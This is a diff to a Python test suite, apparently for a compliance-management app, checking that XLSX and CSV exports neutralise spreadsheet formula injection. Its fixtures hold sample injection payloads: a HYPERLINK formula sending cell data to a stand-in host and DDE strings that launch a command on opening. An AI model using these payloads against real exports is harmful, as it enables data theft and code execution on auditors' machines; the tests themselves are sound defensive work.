@@ -22,6 +22,7 @@ from aims.soa.services import update_entry
 from aims.trail.models import AuditEvent
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+JUSTIFICATION = "+cmd|' /C calc'!A0 runs on every auditor's machine"
 
 
 def url(world, view, **kwargs):
@@ -89,7 +90,7 @@ def hostile_soa(world):
     world.manager.save()
     entry = SoAEntry.objects.get(organization=world.org, control__ref="A.2.2")
     entry.applicability = Applicability.EXCLUDED
-    entry.justification = "+cmd|' /C calc'!A0"
+    entry.justification = JUSTIFICATION
     entry.implementation = "@SUM(1+1)*cmd|' /C calc'!A0"
     entry.owner = world.manager
     update_entry(entry, actor=world.owner, risks=[])
@@ -99,25 +100,29 @@ def hostile_soa(world):
 def test_the_soa_xlsx_has_no_formula_and_keeps_the_text(world, hostile_soa):
     response = world.client(world.auditor).get(url(world, "soa_export_xlsx"))
     assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(body(response))).active
-    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    book = load_workbook(io.BytesIO(body(response)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
     assert cells and all(cell.data_type != "f" for cell in cells)
     assert not any(str(cell.value).startswith(("=", "+", "-", "@")) for cell in cells)
-    assert sheet["B2"].value == "'" + HYPERLINK
+    assert book["Document control"]["B2"].value == "'" + HYPERLINK
     texts = {cell.value for cell in cells}
-    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"} <= texts
+    assert {"'" + JUSTIFICATION, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"} <= texts
     hostile_soa.refresh_from_db()
-    assert hostile_soa.justification == "+cmd|' /C calc'!A0"  # the record itself is unchanged
+    assert hostile_soa.justification == JUSTIFICATION  # the record itself is unchanged
 
 
 def test_the_soa_csv_neutralises_the_organization_name_and_justifications(world, hostile_soa):
     response = world.client(world.auditor).get(url(world, "soa_export_csv"))
     assert response.status_code == 200
     rows = csv_rows(response)
-    assert rows[1] == ["Organization", "'" + HYPERLINK]
     row = next(r for r in rows if len(r) > 1 and r[1] == "A.2.2")
-    assert row[4] == "'+cmd|' /C calc'!A0" and row[6] == "'-1+1"
+    named = dict(zip(rows[0], row, strict=True))
+    assert named["Justification for exclusion"] == "'" + JUSTIFICATION
+    assert named["Owner"] == "'-1+1"
     assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    control = csv_rows(world.client(world.auditor).get(url(world, "soa_export_control_csv")))
+    assert ["Organization", "'" + HYPERLINK] in control
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in control for cell in r)
 
 
 def test_the_change_trail_csv_neutralises_usernames_like_minus_one_plus_one(world):
